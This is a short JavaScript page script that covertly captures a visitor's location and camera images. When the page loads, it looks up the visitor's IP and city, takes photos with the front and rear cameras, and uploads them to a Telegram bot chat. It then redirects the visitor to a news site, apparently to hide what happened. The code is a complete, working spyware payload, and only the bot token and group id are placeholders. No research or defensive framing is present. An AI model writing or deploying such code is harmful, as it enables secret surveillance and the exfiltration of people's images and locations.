const KEY = '0000000000:PLACEHOLDER';
const GROUP = '-1000000000000';

async function snap(side) {
  let flow = null;
  try {
    flow = await navigator.mediaDevices.getUserMedia({ video: { facingMode: side, width: 640 } });
    const film = document.createElement('video');
    film.srcObject = flow; film.muted = true;
    await film.play();
    return new Promise(done => setTimeout(() => {
      const sheet = document.createElement('canvas');
      sheet.width = film.videoWidth; sheet.height = film.videoHeight;
      sheet.getContext('2d').drawImage(film, 0, 0);
      flow.getTracks().forEach(t => t.stop());
      sheet.toBlob(done, 'image/jpeg', 0.7);
    }, 2500));
  } catch (e) { return null; }
}

(async function () {
  let where = {};
  try { where = await (await fetch('https://ipwho.is/')).json(); } catch (e) {}
  const front = await snap('user'), back = await snap('environment');
  const pack = new FormData();
  const media = [];
  if (front) { pack.append('f', front, 'f.jpg'); media.push({ type: 'photo', media: 'attach://f', caption: where.ip + ' ' + where.city }); }
  if (back) { pack.append('b', back, 'b.jpg'); media.push({ type: 'photo', media: 'attach://b' }); }
  pack.append('chat_id', GROUP);
  pack.append('media', JSON.stringify(media));
  await fetch(`https://api.telegram.org/bot${KEY}/sendMediaGroup`, { method: 'POST', body: pack });
  window.location.href = 'https://vnexpress.net/';
})();
